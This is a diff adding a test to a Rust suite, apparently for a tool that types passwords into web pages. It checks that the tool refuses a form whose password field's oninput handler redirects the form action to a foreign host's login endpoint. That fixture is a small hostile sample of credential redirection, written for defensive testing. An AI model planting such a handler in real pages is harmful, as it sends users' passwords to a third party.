@@ -15,6 +15,7 @@ use crate::server::html;
 crate::cases![
     a_secret_is_typed_into_the_sites_own_documents,
     a_secret_is_typed_nowhere_else,
+    a_form_that_turns_elsewhere_while_it_is_typed_into_is_not_sent,
     a_password_stays_in_its_field,
     a_picture_shows_no_field_wherever_it_is,
     the_mask_is_taken_away_again,
@@ -106,6 +107,17 @@ async fn a_secret_is_typed_nowhere_else(lab: &mut Lab) {
         assert!(failure.message.contains("is not typed: "), "{page}: {}", failure.message);
         assert_eq!(lab.server.count("POST /typed"), 0, "{page}");
     }
+}
+
+async fn a_form_that_turns_elsewhere_while_it_is_typed_into_is_not_sent(lab: &mut Lab) {
+    let other = foreign(lab);
+    let page = format!(
+        "<form><input type=password id=pass oninput=\"this.form.action = '{other}/login'\"><button>登录</button></form>"
+    );
+    lab.server.serve("/", [html(&page)]);
+    let failure = type_secret(lab, 0).await.expect_err("it turned");
+    assert_eq!(failure.kind, FailureKind::SuspiciousPage, "{}", failure.message);
+    assert!(failure.message.contains("goes no further"), "{}", failure.message);
 }
 
 async fn a_password_stays_in_its_field(lab: &mut Lab) {
